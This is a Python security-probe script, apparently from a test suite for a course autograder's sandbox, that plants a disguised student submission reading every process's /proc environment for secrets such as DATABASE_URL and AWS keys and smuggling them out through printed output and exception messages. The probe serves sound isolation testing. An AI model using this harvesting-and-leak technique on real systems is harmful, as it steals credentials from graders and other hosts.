"""a06: read the environment of bwrap's init (pid 1 of the kernel's sandbox) and of the placeholder through
/proc/<pid>/environ, and the same from a check's child in the observer's sandbox; look for the grader's canaries
(DATABASE_URL, AWS_SECRET_ACCESS_KEY). The kernel prints what it found into its own cell output, and the check's
child smuggles it out as its exception's message."""
import sys; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from harness import *
A = "ps1_memory"
code = sol(A, "training_memory").replace("def training_memory(model, optimizer):", "def _honest_tm(model, optimizer):") + r'''

import os
def _environs():
    out = []
    for p in sorted(int(x) for x in os.listdir("/proc") if x.isdigit()):
        try:
            env = open(f"/proc/{p}/environ", "rb").read().split(b"\0")
            hits = [e.decode(errors="replace") for e in env if e.startswith((b"DATABASE_URL", b"AWS_", b"DISTCOURSE_DB", b"HOME=", b"USER", b"SUDO", b"LD_")) or p == 1]
            cmd = open(f"/proc/{p}/cmdline", "rb").read().split(b"\0")[0][-30:].decode()
            out.append(f"pid {p} ({cmd}): {len(env)} vars; " + " | ".join(hits))
        except Exception as e:
            out.append(f"pid {p}: {e!r}")
    return out

print("A06 KERNEL SANDBOX\n" + "\n".join(_environs()))

def training_memory(model, optimizer):
    import sys
    obs = sys.modules.get("probes.observer")
    if obs is not None and getattr(obs, "ACTIVE", False):
        raise ValueError("A06OBS " + " ;; ".join(_environs()))
    return _honest_tm(model, optimizer)
'''
d = make_course("a06", A, {"mallory": {"training_memory": code}})
grade(d, A)
scores(d, A)
o = outputs(d, "mallory", A, "training_memory")
print(o[o.find("A06"):][:6000])
import html, re
fb = open(f"{d}/feedback/mallory/{A}/{A}.html").read()
for m in list(re.finditer("A06OBS", fb))[1:2]:
    print(html.unescape(re.sub("<[^>]+>", "", fb[m.start():m.start()+4000]))[:3000])
canary_scan(d)
